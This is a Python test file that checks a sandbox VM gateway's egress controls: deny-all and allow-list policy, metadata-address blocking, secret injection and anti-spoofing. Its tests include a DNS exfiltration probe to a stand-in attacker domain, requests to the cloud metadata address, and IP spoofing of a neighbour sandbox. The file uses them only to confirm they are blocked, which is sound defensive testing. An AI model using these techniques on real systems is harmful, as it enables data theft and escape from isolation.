"""The vm tier's egress cases (SECURITY.md V5, V7, V8): real microVMs (TCG where /dev/kvm is missing) behind
the gateway, real clients inside the guest (busybox wget, nslookup, tftp, curl), the upstream namespace of
lib/egress.py and the VM daemon of lib/vm_egress.py. Each case checks the gateway's audit and what reached
the upstream side. Nothing here sends a packet beyond loopback, the sandboxes' own links and the test
namespace. The functional behaviour (reattach, pool, fork and rollback) is
tests/integration/test_vm_egress.py."""

from __future__ import annotations

import json
import os
import subprocess
import time
from pathlib import Path

from lib.egress import UPSTREAM, run as _run, sh, upstream, upstream_log  # noqa: F401  (fixture)
from lib.host import qemu_pid
from lib.vm_egress import (ALLOW_ALLOWED, WGET, create_vm, http_paths, link_of, net_log,  # noqa: F401
                           python_vm_template, taps_of, vm_net)


def test_v05_vm_has_one_nic_on_its_tap_and_the_gateway_settings(vm_net):
    d = vm_net
    sid = create_vm(d)
    try:
        net = d.client.call("GET", f"/v1/sandboxes/{sid}/network")
        assert net["mode"] == "deny-all" and net["subnet"].endswith("/30"), net
        gw = net["gateway"]
        guest_ip = gw.rsplit(".", 1)[0] + "." + str(int(gw.rsplit(".", 1)[1]) + 1)
        r = sh(d, sid, "ls /sys/class/net; ip -4 addr show eth0; ip route; cat /etc/resolv.conf; env | sort")
        assert r.exit_code == 0, (r.out, r.err)
        lines = r.out.split()
        assert lines[:2] == ["eth0", "lo"], r.out  # exactly one NIC
        assert f"inet {guest_ip}/30" in r.out, r.out
        assert f"default via {gw} dev eth0" in r.out, r.out
        assert f"nameserver {gw}" in r.out, r.out
        assert f"HTTP_PROXY=http://{gw}:3128" in r.out and f"https_proxy=http://{gw}:3128" in r.out, r.out
        assert "SSL_CERT_FILE=" in r.out, r.out
        # The CA is in the guest's trust store.
        assert "BEGIN CERTIFICATE" in sh(d, sid, "cat /usr/local/share/ca-certificates/space.crt").out
        # Host side: the tap exists, carries .1, and is the only network descriptor QEMU holds.
        link = link_of(net["subnet"])
        assert Path(f"/sys/class/net/{link}").exists(), f"tap {link} missing"
        assert f"inet {gw}/30" in subprocess.run(["ip", "-4", "addr", "show", link], capture_output=True,
                                                  text=True).stdout
        assert taps_of(qemu_pid(sid)) == [link]
        # Its own MAC, not the template's: two VMs differ.
        other = create_vm(d)
        try:
            macs = {sh(d, s, "cat /sys/class/net/eth0/address").out.strip() for s in (sid, other)}
            assert len(macs) == 2, macs
        finally:
            d.client.delete(other)
    finally:
        d.client.delete(sid)
    assert not Path(f"/sys/class/net/{link}").exists(), f"tap {link} left after delete"


def test_v07_vm_deny_all_blocks_everything(vm_net, upstream):
    d = vm_net
    sid = create_vm(d)
    try:
        before = len(upstream_log(upstream))
        r = sh(d, sid, f"{WGET} http://allowed.test/vm-deny-all; echo rc=$?")
        assert "rc=0" not in r.out and "/vm-deny-all" not in r.out, r.out
        r = sh(d, sid, f"{WGET} -Y off http://{UPSTREAM}/vm-direct; echo rc=$?")
        assert "rc=0" not in r.out and "/vm-direct" not in r.out, r.out
        assert any(x.get("verdict") == "deny" for x in net_log(d, sid))  # refused by the gateway
        time.sleep(0.5)
        assert not http_paths(upstream, before), "requests reached the upstream under deny-all"
    finally:
        d.client.delete(sid)


def test_v07_vm_allow_list_allows_only_the_allowed_name(vm_net, upstream):
    d = vm_net
    sid = create_vm(d, network=ALLOW_ALLOWED)
    try:
        r = sh(d, sid, f"{WGET} http://allowed.test/vm-via-proxy")
        assert r.exit_code == 0 and '"path": "/vm-via-proxy"' in r.out, (r.out, r.err)
        # Transparent: the name resolves through the gateway's DNS, the connection is redirected.
        r = sh(d, sid, f"{WGET} -Y off http://allowed.test/vm-transparent")
        assert r.exit_code == 0 and '"path": "/vm-transparent"' in r.out, (r.out, r.err)
        r = sh(d, sid, f"{WGET} http://other.test/vm-not-allowed; echo rc=$?")
        assert "rc=0" not in r.out, r.out
        paths = http_paths(upstream)
        assert "/vm-via-proxy" in paths and "/vm-transparent" in paths and "/vm-not-allowed" not in paths
        assert any(x.get("verdict") == "deny" and x.get("name") == "other.test" for x in net_log(d, sid))
    finally:
        d.client.delete(sid)


def test_v07_vm_metadata_and_private_addresses_are_denied(vm_net, upstream):
    d = vm_net
    sid = create_vm(d, network={"mode": "allow-all-public"})
    try:
        for target in ("169.254.169.254", "10.0.0.1"):
            for how in ("", "-Y off "):
                r = sh(d, sid, f"{WGET} {how}http://{target}/vm-meta; echo rc=$?")
                assert "rc=0" not in r.out and "/vm-meta" not in r.out, (target, how, r.out)
        assert any(x.get("verdict") == "deny" and "169.254.169.254" in json.dumps(x) for x in net_log(d, sid))
    finally:
        d.client.delete(sid)


def test_v07_vm_dns_nxdomain_and_direct_udp_leave_nothing(vm_net, upstream):
    d = vm_net
    sid = create_vm(d, network=ALLOW_ALLOWED)
    try:
        before = len(upstream_log(upstream))
        label = "vmexfil" + os.urandom(4).hex()
        r = sh(d, sid, f"nslookup {label}.attacker.test; echo rc=$?")
        assert "rc=0" not in r.out or "NXDOMAIN" in r.out or "can't find" in r.out, r.out
        # Aimed straight at the upstream resolver: redirected to the gateway's, which asks nobody.
        r = sh(d, sid, f"nslookup {label}.example {UPSTREAM}; echo rc=$?")
        assert "rc=0" not in r.out or "NXDOMAIN" in r.out or "can't find" in r.out, r.out
        assert UPSTREAM in sh(d, sid, "nslookup allowed.test").out
        # A datagram to any other UDP port (tftp sends its request to the port given) is dropped.
        r = sh(d, sid, f"timeout 3 tftp -g -r probe -l /tmp/probe {UPSTREAM} 5353; echo rc=$?")
        assert "rc=0" not in r.out, r.out
        time.sleep(0.5)
        after = upstream_log(upstream)[before:]
        assert not [e for e in after if e["kind"] == "udp"], f"a direct datagram reached the upstream: {after}"
        assert not [e for e in after if e["kind"] == "dns" and label in e["name"]], after
    finally:
        d.client.delete(sid)


def test_v07_vm_secret_is_injected_and_never_seen_inside(vm_net, upstream, python_vm_template):
    """curl in the guest verifies the gateway's certificate against the sandbox CA that spaced put into the
    guest's trust store, sends the placeholder, and the upstream gets the real value."""
    d = vm_net
    value = "sk-vm-" + os.urandom(16).hex()
    d.client.call("POST", "/v1/secrets", {"name": "VM_TOKEN", "value": value, "hosts": ["secret.test"],
                                          "header": "Authorization", "format": "Bearer {}"})
    sid = create_vm(d, template=python_vm_template, secrets=["VM_TOKEN"],
                    network={"mode": "allow-list", "rules": [{"action": "allow", "domain": "secret.test"}]})
    try:
        placeholder = sh(d, sid, "echo $VM_TOKEN").out.strip()
        assert placeholder.startswith("space_ph_") and value not in placeholder, placeholder
        for how in ("", "--noproxy '*' "):  # through the explicit proxy (CONNECT), and transparent
            r = sh(d, sid, f'curl -sS --max-time 20 {how}https://secret.test/echo -H "Authorization: Bearer $VM_TOKEN"')
            assert r.exit_code == 0, (how, r.out, r.err)
            assert value not in r.out and placeholder in r.out, r.out
            seen = [e for e in upstream_log(upstream) if e["kind"] == "http" and e["path"] == "/echo"]
            assert seen and seen[-1]["headers"].get("Authorization") == f"Bearer {value}", seen
        r = sh(d, sid, f"grep -rl {value} /etc /root /tmp /usr/local 2>/dev/null; env | grep -c {value}; true")
        assert value not in r.out and r.out.strip().endswith("0"), r.out
    finally:
        d.client.delete(sid)
        d.client.call("DELETE", "/v1/secrets/VM_TOKEN")


def spoof_drops() -> int:
    """Packets the host dropped on sandbox links for a source not routed back through that link."""
    out = _run("nft", "list", "chain", "inet", "space", "antispoof").stdout
    for line in out.splitlines():
        if "fib saddr . iif oif missing" in line:
            return int(line.split("counter packets")[1].split()[0])
    raise AssertionError(f"no reverse-path rule in the antispoof chain:\n{out}")


def test_v08_a_vm_sending_as_its_neighbour_gets_nothing_under_the_neighbours_policy(vm_net, upstream):
    """Guest root owns its kernel: it takes a neighbour jail's address and sends DNS from it to its own
    gateway address. Dropped on the host before the redirect: the neighbour's allow-list is never applied,
    nothing is resolved upstream, and the neighbour's audit holds nothing of it. The neighbour's own query
    for such a name does reach the upstream (the spoof would have worked)."""
    d = vm_net
    wildcard = {"mode": "allow-list", "rules": [{"action": "allow", "domain": "*.allowed.test"}]}
    neighbour = d.client.create(network=wildcard)["id"]
    sid = create_vm(d)  # deny-all
    try:
        n_gw = d.client.call("GET", f"/v1/sandboxes/{neighbour}/network")["gateway"]
        n_ip = n_gw.rsplit(".", 1)[0] + "." + str(int(n_gw.rsplit(".", 1)[1]) + 1)
        gw = d.client.call("GET", f"/v1/sandboxes/{sid}/network")["gateway"]
        label = "v8" + os.urandom(4).hex()
        before, drops_before = len(upstream_log(upstream)), spoof_drops()
        r = sh(d, sid, f"ip addr add {n_ip}/32 dev eth0 && ip route replace {gw} dev eth0 src {n_ip} && "
                       f"ip route get {gw}; timeout 5 nslookup {label}.allowed.test {gw}; echo rc=$?")
        assert f"src {n_ip}" in r.out, r.out  # the guest really sent as its neighbour
        time.sleep(0.5)
        after = upstream_log(upstream)[before:]
        assert not [e for e in after if e["kind"] == "dns" and label in e["name"]], after
        assert not [x for x in net_log(d, neighbour) if label in json.dumps(x)], net_log(d, neighbour)
        assert spoof_drops() > drops_before, "the host dropped nothing on the VM's link"
        # Control: the neighbour itself may resolve such names, so the spoofed query would have gone out.
        r = sh(d, neighbour, f"nslookup ctl-{label}.allowed.test; echo rc=$?")
        time.sleep(0.5)
        assert [e for e in upstream_log(upstream)[before:] if e["kind"] == "dns" and f"ctl-{label}" in e["name"]], r.out
    finally:
        d.client.delete(sid)
        d.client.delete(neighbour)
